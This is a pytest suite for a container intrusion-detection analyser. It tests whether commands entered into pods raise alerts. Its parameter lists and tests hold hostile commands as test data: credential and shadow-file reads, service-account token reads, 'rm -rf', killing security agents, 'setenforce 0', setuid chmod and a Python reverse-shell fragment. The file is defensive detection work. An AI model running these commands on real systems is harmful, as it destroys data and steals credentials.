"""What comes from outside of a container: looking is no alert, doing is; what a scanner does everywhere is told of a few."""

from collections.abc import Sequence

import pytest
from detection.cluster import BEGIN, CART, SECOND, Cluster, Replica, alerts, analyse, latest
from detection.execs import INJECTED, entered
from peerwatch.columns import ProcessFlag
from peerwatch.subjects import ContainerKind

from collector.analysis import Analysis
from collector.analysis.behaviours import restored
from collector.analysis.errands import MOST, Errands, only_looks
from collector.analysis.persons import MOST as MOST_NAMES, Persons
from collector.detect.everyday_calls import only_asks
from collector.detect.tools import Level
from collector.records import BehaviourType, Severity, WorkloadKey

LOOKS_FOR_KEYS = "grep -ri password /srv"


def workloads(cluster: Cluster, count: int) -> list[Sequence[Replica]]:
    made = [cluster.pods(3, workload=f"shop{number}") for number in range(count)]
    for pods in made:
        cluster.normal(pods, 0, 1500, every=5)
    return made


@pytest.mark.parametrize(
    "script",
    [
        "find / -name id_card",
        LOOKS_FOR_KEYS,
        "killall auditor",
        "curl -s http://203.0.113.7/x",
        "rm -rf /data",
        "find /data -type f -delete",
        "find / -size +1M | xargs -r rm",
        "find /srv/shop -exec rm -f {} ;",
        "setenforce 0",
        "kill 1 7",
        "kill -9 $(pidof auditor)",
        "kill -TERM $(pidof server); kill -TERM 7",
        "kill 7",
        "nc -z 10.0.0.9 1-1024",
        "chmod -R 777 /srv",
        "chmod u+s /srv/x",
        "chmod +x /tmp/x",
        "chown -R root: /etc",
        "cp /bin/sh /srv/sh.bak",
        "cp /tmp/x /tmp/x.bak",
        "cp /srv/v1.2/x /srv/v1.3/y",
        "cp /srv/.env /srv/.env.bak",
        "who -a",
        "ps aux | grep -i falcon-sensor",
    ],
)
@pytest.mark.parametrize("replicas", [1, 2, 4])
def test_a_person_who_does_more_than_look_is_told_however_many_replicas_there_are(
    cluster: Cluster, script: str, replicas: int
) -> None:
    pods = cluster.pods(replicas)
    cluster.normal(pods, 0, 900)
    entered(cluster, 700.5, pods[0], script)

    (alert,) = alerts(analyse(cluster, until=1000))

    assert alert.severity in {Severity.LOW, Severity.MEDIUM}
    assert [each.pod for each in alert.replicas] == [pods[0].name]


@pytest.mark.parametrize(
    "script",
    [
        "ls -la /srv",
        "ps aux",
        "curl -s http://127.0.0.1:8080/metrics",
        "kill -HUP 1",
        "kill 1",
        "sleep 5 && kill -SIGTERM $(pidof server)",
        "sleep 5; kill -QUIT `cat /run/server.pid`",
        "nc -zv -w 2 10.0.0.9 5432",
        "kill -s TERM 1",
        "tail -n 20 /x/app.log",
        "cp /etc/nginx/nginx.conf /etc/nginx/nginx.conf.bak",
        "cp /srv/words.txt /srv/words.old",
        "cat /proc/mounts",
        "chmod 644 /srv/words.txt; ls -l /srv",
        "chown -R git: /data/shop.git",
    ],
)
def test_a_person_who_looks_or_asks_the_service_itself_is_a_note(cluster: Cluster, script: str) -> None:
    pods = cluster.pods(4)
    cluster.normal(pods, 0, 900)
    entered(cluster, 700.5, pods[0], script)

    incidents = analyse(cluster, until=1000)

    assert [each.severity for each in incidents] == [Severity.INFO]


@pytest.mark.parametrize(
    ("name", "arguments", "asks"),
    [
        ("kill", ("kill", "-HUP", "1"), True),
        ("kill", ("kill", "-s", "USR1", "7"), True),
        ("kill", ("kill", "-9", "1"), False),
        ("kill", ("kill", "10"), False),
        ("curl", ("curl", "-s", "localhost:9090/debug"), True),
        ("curl", ("curl", "http://localhost/x", "http://203.0.113.7/x"), False),
        ("curl", ("curl",), False),
        ("tar", ("tar", "cf", "-", "/var/log"), True),
        ("tar", ("tar", "czf", "/tmp/x.tgz", "/etc"), False),
        ("nc", ("nc", "localhost", "80"), False),
    ],
)
def test_asking_a_service_is_told_apart_from_the_rest(name: str, arguments: tuple[str, ...], *, asks: bool) -> None:
    assert only_asks(name, arguments) is asks


@pytest.mark.parametrize("replicas", [4, 60])
def test_the_same_words_on_replica_after_replica_are_one_alert(cluster: Cluster, replicas: int) -> None:
    pods = cluster.pods(replicas)
    cluster.normal(pods, 0, 1500, every=10)
    for number, pod in enumerate(pods[:5]):
        entered(cluster, 700.5 + 150 * number, pod, LOOKS_FOR_KEYS)

    (alert,) = alerts(analyse(cluster, until=1600))

    assert pods[0].name in {each.pod for each in alert.replicas}


def test_a_scanner_in_all_workloads_is_told_of_the_first_two(cluster: Cluster) -> None:
    for number, pods in enumerate(workloads(cluster, 6)):
        for turn, pod in enumerate(pods):
            entered(cluster, 700.5 + 60 * number + 5 * turn, pod, LOOKS_FOR_KEYS)

    told = alerts(analyse(cluster, until=1600))

    assert [each.workload.name for each in told] == ["shop0", "shop1"]


def test_a_scanner_that_is_through_all_workloads_within_seconds_is_told_of_none(cluster: Cluster) -> None:
    for number in range(8):
        pods = cluster.pods(6, workload=f"shop{number}")
        cluster.normal(pods, 0, 1500, every=5)
        entered(cluster, 1200.5 + 3 * number, pods[0], "find / -xdev -perm -4000 -type f")

    assert alerts(analyse(cluster, until=1600)) == []


def test_a_scanner_is_one_errand_whatever_the_shells_of_the_images_are(cluster: Cluster) -> None:
    shells = ("/usr/bin/dash", "/bin/bash", "/bin/busybox", "/bin/ash")
    for number, pods in enumerate(workloads(cluster, 4)):
        for turn, pod in enumerate(pods):
            at, words = 700.5 + 8 * number + turn, ("sh", "-c", LOOKS_FOR_KEYS)
            cluster.exec(at, pod, shells[number], parent="", args=words, flags=INJECTED)

    assert alerts(analyse(cluster, until=1600)) == []


def test_other_words_from_outside_are_told_in_spite_of_the_scanner(cluster: Cluster) -> None:
    made = workloads(cluster, 5)
    for number, pods in enumerate(made):
        entered(cluster, 700.5 + 60 * number, pods[0], LOOKS_FOR_KEYS)
    entered(cluster, 1400.5, made[4][1], "curl -s http://203.0.113.7/x")

    assert alerts(analyse(cluster, until=1600))[-1].replicas[0].pod == made[4][1].name


def test_an_errand_is_known_after_a_restart(cluster: Cluster) -> None:
    made = workloads(cluster, 4)
    for number, pods in enumerate(made):
        words = ("find", "/", "-name", "passwords")
        cluster.exec(700.5 + 233 * number, pods[0], "/usr/bin/find", parent="", args=words, flags=INJECTED)
    cut = sum(at < 1300 for at, _, _ in cluster.sorted())
    before, after = Analysis(), Analysis()
    told = before.observe(cluster.table(0, cut))
    changes = before.take_changes()
    after.restore(changes.replicas, changes.sightings, told)

    later = after.observe(cluster.table(cut)) + after.advance(BEGIN + 1600 * SECOND)

    assert [each for each in alerts(latest(later)) if each.workload.name == "shop3"] == []


def test_errands_are_bounded_and_a_bare_shell_is_none() -> None:
    errands = Errands()
    shell = restored(BehaviourType.EXEC, "/bin/sh (injected)", ("sh",), "")
    errands.meet(shell, CART)
    assert len(errands) == 0

    for number in range(MOST + 10):
        words = (f"tool{'x' * (number % 7)}", "".join(chr(97 + int(digit)) for digit in str(number)))
        errands.meet(restored(BehaviourType.EXEC, "/bin/x (injected)", words, ""), CART)
    assert len(errands) == MOST


def test_what_nothing_normal_looks_like_is_no_errand() -> None:
    errands, behaviour = Errands(), restored(BehaviourType.EXEC, "/bin/x (injected)", ("x", "scan"), "")
    for number in range(20):
        errands.meet(behaviour, WorkloadKey("test", "shop", "Deployment", f"shop{number}"))

    assert errands.is_usual(behaviour, Level.STRONG)
    assert not errands.is_usual(behaviour, Level.KNOWN_BAD)


def looks(cluster: Cluster, at: float, pod: Replica, tool: str) -> None:
    cluster.exec(at, pod, f"/usr/bin/{tool}", parent="", args=(tool, "-a"), flags=INJECTED)


def habits(cluster: Cluster) -> list[Sequence[Replica]]:
    """Let people look at six workloads of three replicas, always with the same three tools."""
    made = workloads(cluster, 6)
    for number, pods in enumerate(made):
        for turn, pod in enumerate(pods):
            for place, tool in enumerate(("ls", "id", "top")):
                looks(cluster, 700.5 + 10 * number + 2 * turn + 0.3 * place, pod, tool)
    return made


@pytest.mark.parametrize("replicas", [1, 2, 3])
def test_who_looks_with_what_hardly_anybody_uses_here_is_told_however_many_replicas_there_are(
    cluster: Cluster, replicas: int
) -> None:
    made = habits(cluster)
    late = cluster.pods(replicas, workload="late")
    cluster.normal(late, 0, 1500, every=5)
    looks(cluster, 1000.5, late[-1], "lscpu")
    looks(cluster, 1100.5, made[0][0], "whoami")

    told = alerts(analyse(cluster, until=1600))

    assert [(each.replicas[0].pod, each.severity) for each in told] == [
        (late[-1].name, Severity.LOW),
        (made[0][0].name, Severity.LOW),
    ]


@pytest.mark.parametrize("tool", ["tail", "netstat", "nslookup"])
def test_who_looks_with_a_tool_of_every_script_or_at_how_the_service_does_is_a_note(cluster: Cluster, tool: str) -> None:
    habits(cluster)
    late = cluster.pods(3, workload="late")
    cluster.normal(late, 0, 1500, every=5)
    looks(cluster, 1000.5, late[1], tool)

    assert alerts(analyse(cluster, until=1600)) == []


@pytest.mark.parametrize("words", ["chown -R app /srv/data", "dpkg -l"])
def test_who_sets_right_or_asks_what_is_installed_as_nobody_else_here_is_a_note(cluster: Cluster, words: str) -> None:
    habits(cluster)
    late = cluster.pods(3, workload="late")
    cluster.normal(late, 0, 1500, every=5)
    name, *rest = words.split()
    cluster.exec(1000.5, late[1], f"/usr/bin/{name}", parent="", args=(name, *rest), flags=INJECTED)

    assert alerts(analyse(cluster, until=1600)) == []


def test_who_looks_with_what_everybody_uses_here_is_a_note(cluster: Cluster) -> None:
    habits(cluster)
    late = cluster.pods(3, workload="late")
    cluster.normal(late, 0, 1500, every=5)
    looks(cluster, 1000.5, late[1], "id")

    assert alerts(analyse(cluster, until=1600)) == []


def test_what_people_use_is_known_after_a_restart(cluster: Cluster) -> None:
    habits(cluster)
    late = cluster.pods(3, workload="late")
    cluster.normal(late, 0, 1500, every=5)
    looks(cluster, 1000.5, late[1], "lscpu")
    cut = sum(at < 900 for at, _, _ in cluster.sorted())
    before, after = Analysis(), Analysis()
    told = before.observe(cluster.table(0, cut))
    changes = before.take_changes()
    after.restore(changes.replicas, changes.sightings, told)

    later = after.observe(cluster.table(cut)) + after.advance(BEGIN + 1600 * SECOND)

    assert [each.replicas[0].pod for each in alerts(latest(later))] == [late[1].name]


def test_an_interpreter_that_a_person_starts_is_judged_by_what_it_is_told(cluster: Cluster) -> None:
    pods = cluster.pods(4)
    cluster.normal(pods, 0, 1500, every=3)
    for at, pod, code in ((800.1, pods[1], "import json; print(1)"), (1200.1, pods[2], "import socket,os;os.dup2(3,0)")):
        cluster.exec(at, pod, "/usr/bin/bash", parent="", flags=INJECTED)
        cluster.exec(at + 4, pod, "/usr/bin/python3.11", parent="/usr/bin/bash", args=("python3", "-c", code), flags=INJECTED)

    (alert,) = alerts(analyse(cluster, until=1600))

    assert [each.pod for each in alert.replicas] == [pods[2].name]


def test_what_people_use_is_bounded() -> None:
    persons = Persons()
    for number in range(MOST_NAMES + 10):
        name = "".join(chr(97 + int(digit)) for digit in str(number))
        persons.meet(restored(BehaviourType.EXEC, f"/bin/{name} (injected)", (name,), ""), f"uid-{number}")
    persons.meet(restored(BehaviourType.EXEC, "/bin/sh <- /bin/server", ("sh",), "/bin/server"), "uid")

    assert len(persons) == MOST_NAMES
    assert persons.rarity(restored(BehaviourType.EXEC, "/bin/new (injected)", ("new",), ""), "uid") == 1


def test_in_the_first_minutes_what_one_of_many_is_told_from_outside_is_no_probe(cluster: Cluster) -> None:
    pods = cluster.pods(4)
    cluster.normal(pods, 0, 600)
    for number, pod in enumerate(pods):
        for turn in range(55):
            looks(cluster, 12.5 + 10 * turn + 0.2 * number, pod, "pg_isready")
    cluster.exec(50.5, pods[2], "/usr/bin/chmod", parent="", args=("chmod", "4755", "/usr/bin/dash"), flags=INJECTED)

    (alert,) = alerts(analyse(cluster, until=700))

    assert [each.pod for each in alert.replicas] == [pods[2].name]


@pytest.mark.parametrize(("flags", "told"), [((*INJECTED, ProcessFlag.TTY), 1), (INJECTED, 0)])
def test_who_has_a_terminal_is_a_person_from_a_replica_s_first_second_on(
    cluster: Cluster, flags: Sequence[ProcessFlag], told: int
) -> None:
    (pod,) = cluster.pods(1)
    cluster.normal([pod], 0, 600)
    entered(cluster, 8.5, pod, "rm -rf /srv/data", flags)

    assert len(alerts(analyse(cluster, until=700))) == told


TAKES_STOCK = "cat /etc/issue; find / -xdev -perm -4000 -type f 2>/dev/null; ls -l /etc/group"


def takes_stock(cluster: Cluster, at: float, pod: Replica) -> None:
    shell = cluster.exec(at, pod, "/usr/bin/dash", parent="", args=("sh", "-c", TAKES_STOCK), flags=INJECTED)
    for words in ("cat /etc/issue", "find / -xdev -perm -4000 -type f", "ls -l /etc/group"):
        tool = f"/usr/bin/{words.split()[0]}"
        cluster.exec(at + 0.01, pod, tool, parent="/usr/bin/dash", args=words.split(), flags=INJECTED, parent_pid=shell)


@pytest.mark.parametrize(("replicas", "pace"), [(2, 2.5), (3, 2.5), (8, 2.5), (3, 15), (5, 15)])
def test_who_takes_stock_of_all_replicas_of_one_workload_is_hardly_an_intruder(
    cluster: Cluster, replicas: int, pace: float
) -> None:
    pods = cluster.pods(replicas)
    cluster.normal(pods, 0, 900)
    for number, pod in enumerate(pods):
        takes_stock(cluster, 700.5 + pace * number, pod)

    assert {each.severity for each in analyse(cluster, until=1000)} <= {Severity.INFO, Severity.LOW}


def test_who_takes_stock_of_one_replica_is_an_intruder(cluster: Cluster) -> None:
    pods = cluster.pods(4)
    cluster.normal(pods, 0, 900)
    takes_stock(cluster, 700.5, pods[2])

    (alert,) = alerts(analyse(cluster, until=1000))

    assert (alert.severity, [each.pod for each in alert.replicas]) == (Severity.MEDIUM, [pods[2].name])


def test_the_same_stock_taken_an_hour_apart_is_no_errand(cluster: Cluster) -> None:
    pods = cluster.pods(2)
    cluster.normal(pods, 0, 4500, every=5)
    takes_stock(cluster, 700.5, pods[0])
    takes_stock(cluster, 4300.5, pods[1])

    assert [each.severity for each in alerts(analyse(cluster, until=4600))] == [Severity.MEDIUM] * 2


def test_who_reads_credentials_on_all_replicas_is_an_intruder(cluster: Cluster) -> None:
    pods = cluster.pods(3)
    cluster.normal(pods, 0, 900)
    for number, pod in enumerate(pods):
        words = ("cat", "/run/secrets/kubernetes.io/serviceaccount/token")
        cluster.exec(700.5 + number, pod, "/usr/bin/cat", parent="", args=words, flags=INJECTED)

    (alert,) = alerts(analyse(cluster, until=1000))

    assert alert.severity >= Severity.MEDIUM


@pytest.mark.parametrize(
    ("words", "looks"),
    [
        (("find", "/", "-perm", "-2000"), True),
        (("sh", "-c", "id; uname -a; find / -perm -4000 2>&1 | sort >/dev/null"), True),
        (("sh", "-c", "find / -perm -4000 > /srv/list"), False),
        (("sh", "-c", "id;dpkg -l;(rpm -qa || apk info -v) 2>/dev/null"), True),
        (("sh", "-c", "id;apt install x"), False),
        (("sh", "-c", "dpkg -l;dpkg -i /srv/x.deb"), False),
        (("find", "/", "-perm", "-4000", "-exec", "rm", "{}", ";"), False),
        (("sh", "-c", "find / -perm -4000; curl -s http://203.0.113.7/x"), False),
        (("cat", "/etc/shadow"), False),
        (("sh",), False),
    ],
)
def test_taking_stock_is_told_apart_from_the_rest(words: tuple[str, ...], *, looks: bool) -> None:
    behaviour = restored(BehaviourType.EXEC, f"/usr/bin/{words[0]} (injected)", words, "")

    assert only_looks(behaviour) is looks
    assert not only_looks(restored(BehaviourType.EXEC, f"/usr/bin/{words[0]} <- /bin/server", words, "/bin/server"))


def test_a_shell_is_compared_by_what_it_was_told(cluster: Cluster) -> None:
    pods = cluster.pods(3)
    cluster.normal(pods, 0, 900)
    for pod in pods[:2]:
        cluster.exec(600.5, pod, "/usr/bin/dash", parent="", args=("sh", "-c", "echo $PATH"), flags=INJECTED)
    words = ("sh", "-c", "while read x; do echo $x; done </proc/1/environ")
    cluster.exec(700.5, pods[2], "/usr/bin/dash", parent="", args=words, flags=INJECTED)

    (alert,) = alerts(analyse(cluster, until=1000))

    assert alert.reason.endswith("none of its 2 peers ever did (reads credentials)")


def session(cluster: Cluster, at: float, pod: Replica, tools: Sequence[str]) -> None:
    shell = cluster.exec(at, pod, "/usr/bin/bash", parent="", args=("bash",), flags=INJECTED)
    for number, tool in enumerate(tools):
        words = (tool, "--all")
        cluster.exec(
            at + 3 * number + 1, pod, f"/usr/sbin/{tool}", parent="/usr/bin/bash", args=words, flags=INJECTED, parent_pid=shell
        )


@pytest.mark.parametrize(
    ("tools", "severity"), [(("tcpdump", "ps", "ss"), Severity.MEDIUM), (("chroot", "umount", "debugfs"), Severity.HIGH)]
)
def test_a_person_with_many_tools_hardly_ever_normal_is_worse_than_with_one(
    cluster: Cluster, tools: tuple[str, ...], severity: Severity
) -> None:
    pods = cluster.pods(4)
    cluster.normal(pods, 0, 900)
    session(cluster, 700.5, pods[1], tools)

    (alert,) = alerts(analyse(cluster, until=1000))

    assert alert.severity is severity


@pytest.mark.parametrize("after", [5, 60, 600])
def test_who_looked_first_is_told_for_what_comes_after(cluster: Cluster, after: float) -> None:
    pods = cluster.pods(4)
    cluster.normal(pods, 0, 1500, every=5)
    entered(cluster, 600, pods[1], "cat /srv/app.conf")
    entered(cluster, 600 + after, pods[1], "cat /etc/shadow")

    told = alerts(analyse(cluster))

    assert [each.severity for each in told] == [Severity.MEDIUM]
    assert any("shadow" in each.key for incident in told for each in incident.behaviours)


def test_what_was_a_note_belongs_to_the_alert_about_what_followed_at_once(cluster: Cluster) -> None:
    pods = cluster.pods(4)
    cluster.normal(pods, 0, 1500, every=5)
    shell = cluster.exec(600, pods[1], "/usr/bin/dash", parent="", args=("sh",), flags=INJECTED)
    for second, words in ((1, "ls -l /srv"), (40, "cat /etc/shadow")):
        tool = f"/usr/bin/{words.split()[0]}"
        cluster.exec(600 + second, pods[1], tool, parent="/usr/bin/dash", args=words.split(), flags=INJECTED, parent_pid=shell)

    (alert,) = alerts(analyse(cluster))

    assert [each.key for each in alert.behaviours if "ls" in each.key or "dash (" in each.key]


def test_who_looks_at_much_first_does_not_hide_what_comes_after(cluster: Cluster) -> None:
    pods = cluster.pods(4)
    cluster.normal(pods, 0, 1500, every=5)
    shell = cluster.exec(600, pods[1], "/usr/bin/dash", parent="", args=("sh",), flags=INJECTED)
    for number in range(80):
        tool = f"/usr/bin/look{chr(97 + number // 26)}{chr(97 + number % 26)}"
        cluster.exec(601 + 0.1 * number, pods[1], tool, parent="/usr/bin/dash", args=(tool,), flags=INJECTED, parent_pid=shell)
    words = ("cat", "/etc/shadow")
    cluster.exec(660, pods[1], "/usr/bin/cat", parent="/usr/bin/dash", args=words, flags=INJECTED, parent_pid=shell)

    (alert,) = alerts(analyse(cluster))

    assert alert.severity is Severity.MEDIUM
    assert "/usr/bin/cat <- /usr/bin/dash" in {each.key for each in alert.behaviours}


@pytest.mark.parametrize(("package", "told"), [("bind-tools", []), ("nmap", [Severity.MEDIUM])])
def test_what_is_fetched_into_a_debug_container_says_whether_it_is_for_a_look(
    cluster: Cluster, package: str, told: list[Severity]
) -> None:
    cluster.normal(cluster.pods(3), 0, 900)
    (debug,) = cluster.pods(1, kind=ContainerKind.EPHEMERAL, container="debugger-x7k2p")
    cluster.exec(500, debug, "/bin/busybox", parent="", args=("sh",))
    cluster.exec(510, debug, "/sbin/apk", parent="/bin/busybox", args=("apk", "add", package))
    cluster.connect(510.2, debug, "/sbin/apk", ("203.0.113.4", 443))

    assert [each.severity for each in alerts(analyse(cluster, until=1000))] == told
